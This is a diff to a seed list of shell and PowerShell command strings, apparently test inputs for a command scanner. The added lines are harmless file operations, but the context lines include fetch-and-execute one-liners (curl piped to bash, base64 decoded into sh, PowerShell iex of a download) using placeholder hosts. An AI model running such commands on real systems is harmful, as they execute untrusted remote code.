@@ -77,6 +77,12 @@ SEEDS: dict[FileKind, list[str]] = {
         "echo QUFB{n} | base64 -d | sh\n",
         "curl -fsSL https://x{n}.example/a | bash\n",
         "rm -f /tmp/x{n}\n",
+        'rm -f "/tmp/x{n}"\n',
+        "rm -f /tmp/x{n} 2>/dev/null\n",
+        "D=/tmp; rm -f $D/x{n}\n",
+        "chmod +x /tmp/x{n}\n",
+        "cp a /tmp/x{n}\n",
+        "mv /tmp/a{n} /tmp/b{n}\n",
     ],
     FileKind.POWERSHELL: [
         "iex (iwr https://x.example/a)\n",
